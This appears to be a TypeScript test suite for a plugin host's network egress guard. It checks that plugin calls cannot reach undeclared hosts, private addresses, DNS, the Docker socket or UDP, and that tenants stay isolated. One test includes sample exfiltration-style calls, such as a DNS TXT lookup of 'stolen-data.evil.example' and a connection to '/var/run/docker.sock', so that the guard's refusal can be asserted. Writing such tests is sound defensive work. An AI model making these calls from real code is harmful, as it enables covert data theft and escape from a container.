import assert from 'node:assert/strict';
import dgram from 'node:dgram';
import dns from 'node:dns';
import http from 'node:http';
import http2 from 'node:http2';
import https from 'node:https';
import net from 'node:net';
import tls from 'node:tls';
import { Client, fetch as packagedFetch } from 'undici';
import type { Call, JsonObject } from '@tendril/plugin-api';
import { anyAction, oneAction, RUN, source, startHost } from './fixture.ts';
import type { HostFixture } from './fixture.ts';
import { startServer } from './local-server.ts';
import type { LocalServer } from './local-server.ts';

// As a library that was imported before the guard was put on would have it.
const keptFetch = globalThis.fetch;

interface Emitter {
  on(event: 'error', listener: (error: Error) => void): unknown;
}

/** Resolves when the emitter is ready, rejects with its error. */
function settled(
  emitter: Emitter & { on(event: string, listener: (value: unknown) => void): unknown },
  ...ready: readonly string[]
): Promise<unknown> {
  return new Promise((resolve, reject) => {
    for (const event of ready) emitter.on(event, resolve);
    emitter.on('error', reject);
  });
}

function httpAgentOf(call: Call): http.Agent {
  const agent: unknown = call.agent.http;
  assert.ok(agent instanceof http.Agent);
  return agent;
}

/** Everything that a library might do to get out, by name. */
function waysOut(host: string, port: number): Readonly<Record<string, (call: Call) => Promise<unknown>>> {
  const url = `http://${host}:${port}/`;
  return {
    'global fetch': () => fetch(url),
    'a fetch kept from before': () => keptFetch(url),
    'the fetch of a package': () => packagedFetch(url),
    'http.get': () => settled(http.get(url), 'response'),
    'http.get without an agent': () => settled(http.get(url, { agent: false }), 'response'),
    'http.get with its own agent': () => settled(http.get(url, { agent: new http.Agent({ keepAlive: true }) }), 'response'),
    'https.get': () => settled(https.get(`https://${host}:${port}/`, { rejectUnauthorized: false }), 'response'),
    'http.get through call.agent': (call) => settled(http.get(url, { agent: httpAgentOf(call) }), 'response'),
    'net.connect': () => settled(net.connect(port, host), 'connect'),
    'net.connect with options': () => settled(net.connect({ port, host, family: 4 }), 'connect'),
    'new Socket().connect': () => settled(new net.Socket().connect(port, host), 'connect'),
    'net.connect with its own lookup': () =>
      settled(
        net.connect({ port, host, lookup: (_host, _options, callback) => callback(null, [{ address: '127.0.0.1', family: 4 }]) }),
        'connect',
      ),
    'tls.connect': () => settled(tls.connect({ port, host, rejectUnauthorized: false }), 'secureConnect'),
    'http2.connect': async () => settled(http2.connect(url), 'connect'),
  };
}

describe('the guard on sockets', () => {
  let server: LocalServer;
  let fixture: HostFixture | undefined;
  beforeEach(async () => {
    server = await startServer((_req, res) => {
      res.write('one');
      setTimeout(() => res.end('two'), 5);
    });
  });
  afterEach(async () => {
    await fixture?.host.stop();
    await server.close();
  });

  async function run(
    handler: (call: Call) => Promise<unknown>,
    manifest: JsonObject = {},
    network: { readonly allow?: readonly string[] } = {},
  ) {
    fixture = await startHost([oneAction((_, call) => handler(call), manifest)], { network });
    return (await fixture.host.runAction('acme', fixture.action('probe.go'), {}, RUN)).output;
  }

  for (const name of Object.keys(waysOut('localhost', 1))) {
    it(`refuses a host that is not declared through ${name}`, async () => {
      // The operator's leave does not stand for the plugin's declaration.
      const way = waysOut('localhost', server.port)[name];
      await assert.rejects(
        run((call) => way?.(call) ?? Promise.resolve(), {}, { allow: [`localhost:${server.port}`] }),
        { code: 'EGRESS_DENIED' },
      );
      assert.equal(server.requests.length, 0);
    });

    it(`refuses a private address of a declared host through ${name}`, async () => {
      const way = waysOut('localhost', server.port)[name];
      await assert.rejects(
        run((call) => way?.(call) ?? Promise.resolve(), { permissions: { hosts: [`localhost:${server.port}`] } }),
        { code: 'EGRESS_DENIED' },
      );
      assert.equal(server.requests.length, 0);
    });
  }

  for (const name of [
    'global fetch',
    'a fetch kept from before',
    'the fetch of a package',
    'http.get',
    'http.get with its own agent',
    'http.get through call.agent',
    'net.connect',
    'net.connect with options',
  ]) {
    it(`lets through what is declared and allowed: ${name}`, async () => {
      const place = `localhost:${server.port}`;
      const way = waysOut('localhost', server.port)[name];
      await run(
        async (call) => {
          await way?.(call);
          return null;
        },
        { permissions: { hosts: [place] } },
        { allow: [place] },
      );
    });
  }

  it('refuses names to resolve, local sockets and datagrams', async () => {
    const refused: readonly ((call: Call) => Promise<unknown>)[] = [
      () => new Promise((resolve, reject) => dns.lookup('evil.example', (error, address) => (error ? reject(error) : resolve(address)))),
      () =>
        new Promise((resolve, reject) =>
          dns.resolveTxt('stolen-data.evil.example', (error, answer) => (error ? reject(error) : resolve(answer))),
        ),
      () => dns.promises.lookup('evil.example'),
      () => dns.promises.resolve4('evil.example'),
      () => new dns.promises.Resolver().resolveTxt('evil.example'),
      () => settled(net.connect('/var/run/docker.sock'), 'connect'),
      () => settled(net.connect({ path: '/var/run/docker.sock' }), 'connect'),
      async () => dgram.createSocket('udp4').send('x', 53, '8.8.8.8'),
    ];
    for (const way of refused) {
      await assert.rejects(run(way), { code: 'EGRESS_DENIED' });
      await fixture?.host.stop();
    }
  });

  it('does not lend one call the connection that another opened', async () => {
    const place = `localhost:${server.port}`;
    const agent = new http.Agent({ keepAlive: true });
    const read = async (): Promise<null> => {
      const response = (await settled(http.get(`http://${place}/`, { agent }), 'response')) as http.IncomingMessage;
      for await (const _ of response);
      return null;
    };
    const allowed = oneAction(read, { permissions: { hosts: [place] } });
    const other = source(
      { id: 'other', contributes: { actions: { go: { title: 'Go', effect: 'read', input: { type: 'object' }, output: true } } } },
      (host) => {
        host.action('go', read as never);
      },
    );
    fixture = await startHost([allowed, other], { network: { allow: [place] } });
    await fixture.host.runAction('acme', fixture.action('probe.go'), {}, RUN);
    assert.equal(Object.keys(agent.freeSockets).length, 1);
    await assert.rejects(fixture.host.runAction('acme', fixture.action('other.go'), {}, RUN), { code: 'EGRESS_DENIED' });
    agent.destroy();
  });

  it('tells two tenants in the same process apart, call by call', async () => {
    const place = `localhost:${server.port}`;
    fixture = await startHost(
      [
        oneAction(
          async () => {
            await new Promise((resolve) => setImmediate(resolve));
            const response = (await settled(http.get(`http://${place}/`), 'response')) as http.IncomingMessage;
            response.resume();
            await fetch(`http://${place}/`).then((answer) => answer.text());
            await settled(net.connect(server.port, 'localhost'), 'connect');
            return 'reached';
          },
          {
            permissions: { hosts: [{ connectionField: 'url' }], connections: [] },
            connections: { account: { type: 'custom', title: 'Account', schema: { type: 'object' } } },
          },
        ),
      ],
      { network: { allow: [place] } },
    );
    const { host, action } = fixture;
    const connection = (url: string) => ({ name: 'c', kind: 'account', isSandbox: true, values: { url } });
    const results = await Promise.allSettled(
      Array.from({ length: 20 }, (_, index) =>
        index % 2 === 0
          ? host.runAction('acme', action('probe.go'), {}, { ...RUN, connection: connection(`http://${place}`) })
          : host.runAction('globex', action('probe.go'), {}, { ...RUN, connection: connection('https://elsewhere.example') }),
      ),
    );
    assert.deepEqual(
      results.map((result) => (result.status === 'fulfilled' ? result.value.output : (result.reason as { code: string }).code)),
      Array.from({ length: 10 }, () => ['reached', 'EGRESS_DENIED']).flat(),
    );
  });

  it('lets nothing out of a call over what a call of another tenant opened and kept', async () => {
    const place = `localhost:${server.port}`;
    const kept: { socket?: net.Socket; client?: Client } = {};
    const ways: Readonly<Record<string, () => Promise<unknown>>> = {
      'a socket': () =>
        new Promise((resolve, reject) => {
          const socket = (kept.socket ??= net.connect(server.port, 'localhost'));
          socket.removeAllListeners('data').removeAllListeners('error');
          socket.once('data', resolve).once('error', reject);
          socket.write('GET / HTTP/1.1\r\nhost: x\r\n\r\n');
        }),
      "undici's client": async () => {
        kept.client ??= new Client(`http://${place}`);
        const { body } = await kept.client.request({ path: '/', method: 'GET' });
        return body.text();
      },
    };
    const going = source(
      {
        id: 'probe',
        permissions: { hosts: [{ connectionField: 'url' }], connections: [] },
        connections: { account: { type: 'custom', title: 'Account', schema: { type: 'object' } } },
        contributes: {
          actions: Object.fromEntries(
            Object.keys(ways).map((_, index) => [`go_${index}`, { title: 'Go', effect: 'read', input: { type: 'object' }, output: true }]),
          ),
        },
      },
      (host) => {
        for (const [index, way] of Object.values(ways).entries()) {
          host.action(`go_${index}`, async () => {
            await way();
            return 'reached' as never;
          });
        }
      },
    );
    fixture = await startHost([going], { network: { allow: [place] } });
    const { host, action } = fixture;
    const connection = (url: string) => ({ name: 'c', kind: 'account', isSandbox: true, values: { url } });
    for (const index of Object.keys(ways).keys()) {
      const go = action(`probe.go_${index}`);
      const allowed = { ...RUN, connection: connection(`http://${place}`) };
      assert.equal((await host.runAction('acme', go, {}, allowed)).output, 'reached');
      await assert.rejects(
        host.runAction('globex', go, {}, { ...RUN, connection: connection('https://elsewhere.example') }),
        { code: 'EGRESS_DENIED' },
        Object.keys(ways)[index],
      );
    }
    kept.socket?.destroy();
    await kept.client?.destroy();
  });

  it('lets nothing out after the call over a socket that it opened', async () => {
    const place = `localhost:${server.port}`;
    let socket: net.Socket | undefined;
    const outcome = new Promise((resolve) => {
      void run(
        async () => {
          const opened = (socket = net.connect(server.port, 'localhost'));
          await settled(opened, 'connect');
          opened.once('data', () => resolve('reached')).on('error', (error: Error & { code?: string }) => resolve(error.code));
          setTimeout(() => opened.write('GET / HTTP/1.1\r\nhost: x\r\n\r\n'), 20);
          return null;
        },
        { permissions: { hosts: [place] } },
        { allow: [place] },
      );
    });
    assert.equal(await outcome, 'CALL_ENDED');
    socket?.destroy();
  });

  it('holds in callbacks of a response, in timers, and after the call has ended', async () => {
    const place = `localhost:${server.port}`;
    const other = await startServer();
    const attempts: Promise<unknown>[] = [];
    const connect = (): void => {
      const attempt = settled(net.connect(other.port, '127.0.0.1'), 'connect');
      attempt.catch(() => undefined);
      attempts.push(attempt);
    };
    await run(
      async (call) => {
        const agents: readonly (http.Agent | undefined)[] = [httpAgentOf(call), undefined];
        for (const agent of agents) {
          const request = http.get(`http://${place}/`, agent === undefined ? {} : { agent });
          const response = (await settled(request, 'response')) as http.IncomingMessage;
          response.once('data', connect);
          await new Promise((resolve) => response.on('end', resolve));
        }
        setImmediate(connect);
        setTimeout(connect, 20);
        return null;
      },
      { permissions: { hosts: [place] } },
      { allow: [place] },
    );
    await new Promise((resolve) => setTimeout(resolve, 60));
    const codes = (await Promise.allSettled(attempts)).map((result) =>
      result.status === 'rejected' ? (result.reason as { code: string }).code : 'reached',
    );
    await other.close();
    assert.deepEqual(codes, ['EGRESS_DENIED', 'EGRESS_DENIED', 'CALL_ENDED', 'CALL_ENDED']);
  });

  it('leaves everything outside of calls alone, before and after', async () => {
    fixture = await startHost([]);
    for (const way of [
      () => settled(net.connect(server.port, '127.0.0.1'), 'connect'),
      () => fetch(`http://127.0.0.1:${server.port}/`),
      () => dns.promises.lookup('localhost'),
    ])
      await way();
    await fixture.host.stop();
    assert.equal(globalThis.fetch, keptFetch);
    await settled(net.connect(server.port, '127.0.0.1'), 'connect');
  });

  it('reaches nothing from setup, nor from timers that setup starts', async () => {
    const codes: string[] = [];
    const note = (error: { code?: string }): unknown => codes.push(error.code ?? 'none');
    fixture = await startHost([
      source({ id: 'sly', contributes: { actions: { go: anyAction() } } }, (host) => {
        host.action('go', async () => null);
        net.connect(server.port, '127.0.0.1').on('error', note as (error: Error) => void);
        setImmediate(() => {
          fetch(`http://127.0.0.1:${server.port}/`).catch(note);
        });
      }),
    ]);
    await new Promise((resolve) => setTimeout(resolve, 30));
    assert.deepEqual(codes, ['EGRESS_DENIED', 'EGRESS_DENIED']);
  });
});
